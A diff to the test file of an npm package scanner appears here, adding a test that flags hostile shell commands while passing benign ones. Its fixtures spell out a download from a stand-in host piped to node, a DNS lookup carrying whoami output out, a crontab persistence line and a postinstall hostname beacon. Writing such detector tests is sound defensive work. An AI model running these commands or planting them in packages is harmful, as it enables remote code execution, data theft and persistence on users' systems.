@@ -72,6 +72,15 @@ describe('scanner rules', () => {
     assert.ok(!rules(scan({ 'index.js': "require('child_process').exec('curl -fsSL -o bin.tgz https://x.example.invalid/bin.tgz');" })).has('shell-command'));
   });
 
+  it('shell commands: download piped to node, DNS lookups carrying command output, persistence; not their honest cousins', () => {
+    for (const bad of ['curl -s https://x.example.invalid/i | node', 'nslookup $(whoami).x.example.invalid', '(crontab -l; echo "* * * * * /tmp/x") | crontab -']) {
+      assert.ok(rules(scan({ 'index.js': `require('child_process').execSync(${JSON.stringify(bad)});` })).has('shell-command'), bad);
+    }
+    for (const good of ['node --version | head -1', 'nslookup registry.npmjs.org', 'echo "mounted on the host $(pwd)"']) {
+      assert.ok(!rules(scan({ 'index.js': `require('child_process').execSync(${JSON.stringify(good)});` })).has('shell-command'), good);
+    }
+  });
+
   it('install-time code that reads who or where it runs and uses the network is a beacon; platform checks are not', () => {
     const beacon = scanTarball(packFiles({ 'package.json': manifest({ scripts: { postinstall: `node -e "require('https').get('https://x.example.invalid/?h=' + require('os').hostname())"` } }) }), { signatures });
     assert.ok(rules(beacon).has('install-time-beacon'));
